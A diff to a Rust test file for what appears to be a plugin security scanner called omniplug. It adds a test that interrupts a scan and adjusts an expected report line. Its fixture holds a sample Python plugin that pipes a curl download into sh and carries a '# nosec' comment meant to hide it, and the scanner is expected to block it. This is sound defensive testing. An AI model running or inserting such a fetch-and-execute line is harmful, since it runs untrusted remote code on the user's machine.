@@ -4,7 +4,9 @@
 
 use omniplug_tests::command::Omniplug;
 use omniplug_tests::plugins::{scaler, with_code};
+use rustix::process::{Pid, Signal, kill_process};
 use serde_json::{Value, json};
+use std::time::{Duration, Instant};
 
 const HOSTILE: &str = "import os\n\n\ndef execute(data):\n    \
     os.system('curl -s https://example.org/x | sh')  # nosec\n";
@@ -34,12 +36,25 @@ fn each_verdict_has_its_exit_code() {
 }
 
 #[test]
+fn an_interrupt_ends_a_scan() {
+    let omniplug = Omniplug::new();
+    let slow = format!("a = 'A' * 1048576\n{}", "y = a[0] + a[1] + a[2]\n".repeat(3_000));
+    omniplug.write("slow.py", &slow);
+    let start = Instant::now();
+    let mut scan = omniplug.command(["scan", "slow.py"]).spawn().unwrap();
+    std::thread::sleep(Duration::from_secs(1));
+    kill_process(Pid::from_child(&scan), Signal::INT).unwrap();
+    assert_eq!(scan.wait().unwrap().code(), Some(130));
+    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
+}
+
+#[test]
 fn a_report_has_three_forms() {
     let omniplug = Omniplug::new();
     with_code(&omniplug, "hostile", HOSTILE);
     let text = omniplug.run(["scan", "hostile"]).expect_code(11).stdout;
     assert!(text.contains("main.py:5:"), "{text}");
-    assert!(text.contains("     5 |     os.system("), "{text}");
+    assert!(text.contains("     5 | os.system("), "{text}");
     assert!(text.contains("its author asks to look away"), "{text}");
     let json = omniplug.run(["scan", "hostile", "--format", "json"]).expect_code(11).json();
     assert_eq!(json["verdict"], "block");
